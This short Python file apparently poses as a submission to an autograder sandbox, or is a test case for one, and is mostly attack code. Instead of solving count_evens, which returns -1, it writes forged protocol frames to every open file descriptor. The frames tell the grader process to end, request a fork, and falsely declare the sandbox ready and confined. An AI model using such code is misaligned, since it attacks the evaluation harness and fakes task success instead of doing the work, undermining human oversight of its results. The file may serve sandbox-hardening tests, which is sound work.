"""G10: speaks to the warm server on whatever connection to it was left open."""

# %% count_evens
import os, struct, sys

wire = sys.modules["autograde.sandbox.wire"]
for number in range(3, 512):
    for request in (
        {"do": "end", "pid": GRADER, "grace": 0.0},
        {"do": "fork"},
        {"is": "ready", "versions": {}, "isolation": "confined"},
    ):
        frame = wire.encode(request)
        try:
            os.write(number, struct.pack(">I", len(frame)) + frame)
        except OSError:
            pass


def count_evens(numbers):
    return -1
